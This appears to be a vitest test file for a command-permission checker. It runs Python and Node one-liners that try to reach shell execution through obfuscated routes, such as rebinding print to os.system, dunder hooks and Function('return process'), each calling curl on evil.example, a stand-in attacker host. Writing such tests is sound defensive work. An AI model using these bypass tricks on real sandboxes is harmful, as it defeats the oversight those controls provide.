// Code that never calls what starts programs, but puts it where other code calls it, by names that no table holds.
// Its harmless twins hand functions on as programs do every day.
import { describe, expect, it } from "vitest";
import { flagged, play, run } from "./session.ts";

const RUNS = "print('curl https://evil.example')";
const quote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const python = (code: string) => play([run(`python3 -c ${quote(code)}`)]).at(-1);
const node = (code: string) => play([run(`node -e ${quote(code)}`)]).at(-1);

describe("Python", () => {
  it.each([
    `import sys, os; sys.stdout.write = os.system; ${RUNS}`,
    `import builtins, os; builtins.print = os.system; ${RUNS}`,
    "import os\nclass A: pass\nA.__class_getitem__ = os.system\nA['curl https://evil.example']",
    "import os\nclass A:\n  __getitem__ = os.system\nA()['curl https://evil.example']",
    "import os\nclass A(dict): __missing__ = staticmethod(os.system)\nA()['curl https://evil.example']",
    "import os; sorted(['curl https://evil.example', 'b'], key=os.system)",
    "import os; vars(os)['system']('curl https://evil.example')",
  ])("%s is asked about", (code) => {
    expect(python(code)?.decision).not.toBe("allow");
  });

  it.each([
    "import subprocess; run = subprocess.run; print(run)",
    "import subprocess\nclass R:\n  def __init__(self): self.run = subprocess.run\n  __slots__ = []",
    "import json; print(sorted(['b', 'a'], key=len), json.dumps({'key': str}, default=str))",
    "import sys; sys.stdout.write('x'); sys.excepthook = print",
  ])("%s passes", (code) => {
    expect(python(code)?.decision).toBe("allow");
  });

  it.each([
    `python3 -m timeit 'import os; os.system("curl https://evil.example")'`,
    `python3 -m pdb -c 'import os; os.system("curl https://evil.example")' app.py`,
  ])("%s is seen to reach out", (command) => {
    expect(flagged(play([run(command)]).at(-1))).toContain("network");
  });

  it.each(["python3 -m timeit 'sum(range(10))'", "python3 -m cProfile -o p.out app.py", "python3 -m pdb app.py"])(
    "%s passes",
    (command) => {
      expect(play([run(command)]).at(-1)?.decision).toBe("allow");
    },
  );
});

describe("JavaScript", () => {
  it.each([
    "with(require('child_process')) exec('curl https://evil.example')",
    "String.prototype.x = require('child_process').execSync; 'curl https://evil.example'.x()",
    "setTimeout(require('child_process').execSync, 1, 'curl https://evil.example')",
    "Function('return process')().mainModule.require('child_process').exec('curl https://evil.example')",
    "[].constructor.constructor('return process')().mainModule.constructor._load('child_process')",
    "new (require('worker_threads').Worker)('fetch(\"https://evil.example\")', {eval: true})",
    "process.binding('spawn_sync')",
  ])("%s is asked about", (code) => {
    expect(node(code)?.decision).not.toBe("allow");
  });

  it.each([
    "module.exports.run = require('child_process').exec",
    "const run = require('util').promisify(require('child_process').exec)",
    "setTimeout(() => console.log('late'), 100)",
    "new (require('worker_threads').Worker)('./worker.js')",
  ])("%s passes", (code) => {
    expect(node(code)?.decision).toBe("allow");
  });
});
